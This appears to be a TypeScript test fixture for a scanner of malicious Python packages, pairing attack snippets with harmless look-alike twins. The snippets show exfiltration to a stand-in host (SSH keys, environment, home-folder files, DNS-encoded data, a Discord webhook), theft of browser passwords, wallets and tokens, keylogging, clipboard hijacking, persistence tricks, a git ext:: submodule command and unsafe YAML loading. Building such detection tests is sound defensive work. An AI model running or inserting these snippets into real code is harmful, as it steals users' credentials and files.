import { type Attack, bytes, python } from './attack-pack.test-support.ts'

export const reachAttacks: Attack[] = [
  python(
    'sends SSH keys',
    'import os, requests\nrequests.post("https://example.test", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
    'import requests\nrequests.post("https://example.test", data=open("image.png", "rb").read())',
  ),
  python(
    'collects credential files',
    'from pathlib import Path\nfound = []\nfor n in (".aws/credentials", ".npmrc", ".git-credentials"):\n    p = Path.home() / n\n    if p.exists():\n        found.append(p.read_text())',
    'from pathlib import Path\nfor n in (".cache", ".config"):\n    p = Path.home() / n\n    print(p.exists())',
  ),
  python(
    'reads the browser’s passwords',
    'import os, sqlite3, shutil\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nshutil.copy(p, "x.db")\nsqlite3.connect("x.db")',
    'import os, sqlite3\np = os.path.join("data", "prompts.db")\nsqlite3.connect(p)',
  ),
  python(
    'reads wallets',
    'import os, glob\nfor w in glob.glob(os.path.expanduser("~/.electrum/wallets/*")):\n    print(open(w).read())',
    'import os, glob\nfor w in glob.glob("models/*"):\n    print(w)',
  ),
  python(
    'reads tokens of a chat program',
    'import os, re\np = os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb"\nfor f in os.listdir(p):\n    print(re.findall("x", open(p + "\\\\" + f, errors="ignore").read()))',
    'import os\nfor f in os.listdir("output"):\n    print(f)',
  ),
  python(
    'sends the environment',
    'import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request("https://example.test", data=json.dumps(dict(os.environ)).encode()))',
    'import os, subprocess\nenv = dict(os.environ)\nsubprocess.run(["git"], env=env)',
  ),
  python(
    'sends who uses the machine',
    'import getpass, platform, socket, requests\ninfo = {"u": getpass.getuser(), "h": socket.gethostname(), "o": platform.platform()}\nrequests.get("https://example.test", params=info)',
    'import platform\nprint({"o": platform.platform()})',
  ),
  python(
    'sends data as names of hosts',
    'import socket, os\nd = os.environ.get("USER", "").encode().hex()\nsocket.gethostbyname(d + ".example.test")',
    'import socket\nsocket.gethostbyname("example.test")',
  ),
  python(
    'sends to a built-in chat channel',
    `import requests\nrequests.post("https://discord.com/api/webhooks/${'1'.repeat(18)}/${'aB3_'.repeat(17)}", json={"content": "x"})`,
    'import requests\ndef send(url):\n    requests.post(url, json={"content": "x"})',
  ),
  python(
    'hides the receiver',
    'import requests, base64\nrequests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3Q=").decode(), json={"a": 1})',
    'import requests\nrequests.post("https://example.test", json={"a": 1})',
  ),
  python(
    'listens to keys',
    'from pynput.keyboard import Listener\nkeys = []\ndef on_press(k):\n    keys.append(k)\nListener(on_press=on_press).start()',
    'from pynput.mouse import Controller\nprint(Controller().position)',
  ),
  python(
    'sends the screen',
    'from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nImageGrab.grab().save(b)\nrequests.post("https://example.test", files={"f": ImageGrab.grab().tobytes()})',
    'from PIL import ImageGrab\nimage = ImageGrab.grab()',
  ),
  python(
    'replaces copied addresses of wallets',
    'import pyperclip, re\nif re.match("^(bc1|0x)", pyperclip.paste()):\n    pyperclip.copy("0x" + "1" * 40)',
    'import pyperclip\npyperclip.copy("prompt")',
  ),
  python(
    'walks through the user’s folders',
    'import os, requests\nfor r, _, fs in os.walk(os.path.expanduser("~")):\n    for f in fs:\n        requests.post("https://example.test", files={"f": open(os.path.join(r, f), "rb")})',
    'import os\nfor r, _, fs in os.walk("models"):\n    for f in fs:\n        print(f)',
  ),
  python(
    'adds to the files of shells',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")',
    'import os\nwith open("notes.txt", "a") as f:\n    f.write("x")',
  ),
  python(
    'starts with the system',
    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x.exe")',
    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Blender")',
  ),
  python(
    'makes a scheduled task',
    'import subprocess\nsubprocess.run("schtasks /create /sc minute /tn x /tr x.exe", shell=True)',
    'import subprocess\nsubprocess.run("tasklist", shell=True)',
  ),
  python(
    'changes the list of hosts',
    'with open("/etc/hosts", "a") as f:\n    f.write("127.0.0.1 example.test\\n")',
    'with open("hosts.txt", "a") as f:\n    f.write("x")',
  ),
  python(
    'changes another package',
    'import requests.api as api, os\np = os.path.join("lib", "site-packages", "requests", "api.py")\nopen(p, "a").write("import os")',
    'import os\np = os.path.join("lib", "cache", "api.json")\nopen(p, "a").write("{}")',
  ),
  python(
    'writes a file that Python starts with',
    'import site, os\nopen(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import os; os.getcwd()")',
    'import torch\ntorch.save({}, "x.pth")',
  ),
  python(
    'writes a hook of git',
    'with open(".git/hooks/post-merge", "w") as f:\n    f.write("#!/bin/sh")',
    'with open("merge.log", "w") as f:\n    f.write("x")',
  ),
]

export const fileAttacks: Attack[] = [
  {
    name: 'ships a line that Python starts with',
    files: { '__init__.py': '', 'x.pth': 'import os; os.getcwd()\n' },
    twin: { '__init__.py': '', 'x.pth': bytes(0x80, 0x02, 0x7d, 0x71, 0x00, 0x2e) },
  },
  {
    name: 'ships compiled code without its source',
    files: { '__init__.py': 'from . import core', 'core.pyc': bytes(0xa7, 0x0d, 0x0d, 0x0a) },
    twin: { '__init__.py': 'from . import core', 'core.py': '' },
  },
  {
    name: 'ships a program as a picture',
    files: { '__init__.py': '', 'logo.png': bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1) },
    twin: { '__init__.py': '', 'logo.png': bytes(0x89, 0x50, 0x4e, 0x47) },
  },
  {
    name: 'ships an archive as a picture',
    files: { '__init__.py': '', 'logo.jpg': bytes(0x50, 0x4b, 3, 4) },
    twin: { '__init__.py': '', 'logo.jpg': bytes(0xff, 0xd8, 0xff) },
  },
  {
    name: 'has a command as the address of a submodule',
    files: {
      '__init__.py': '',
      '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = ext::sh -c true\n',
    },
    twin: {
      '__init__.py': '',
      '.gitmodules': '[submodule "lib"]\n\tpath = lib\n\turl = https://example.test/lib.git\n',
    },
  },
  {
    name: 'ships a folder of git with hooks',
    files: { '__init__.py': '', '.git/hooks/post-checkout': '#!/bin/sh\n' },
    twin: { '__init__.py': '', '.gitignore': '*.pyc\n' },
  },
  {
    name: 'starts with an editor',
    files: {
      '__init__.py': '',
      '.vscode/tasks.json': '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}',
    },
    twin: { '__init__.py': '', '.vscode/tasks.json': '{"tasks": [{"command": "npm test"}]}' },
  },
  {
    name: 'depends on a misspelt package',
    files: { '__init__.py': '', 'requirements.txt': 'reqeusts>=2\n' },
    twin: { '__init__.py': '', 'requirements.txt': 'requests>=2\n' },
  },
  {
    name: 'depends on an unencrypted address',
    files: { '__init__.py': '', 'requirements.txt': 'a @ http://example.test/a.whl\n' },
    twin: { '__init__.py': '', 'requirements.txt': 'a>=1\n' },
  },
  {
    name: 'depends on an index of its own',
    files: {
      '__init__.py': '',
      'requirements.txt': '--extra-index-url https://example.test/simple\nnumpy\n',
    },
    twin: {
      '__init__.py': '',
      'requirements.txt': '--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n',
    },
  },
  {
    name: 'runs objects of a YAML file',
    files: { '__init__.py': '', 'config.yaml': 'a: !!python/object/apply:os.system ["x"]\n' },
    twin: { '__init__.py': '', 'config.yaml': 'a: [1, 2]\n' },
  },
]
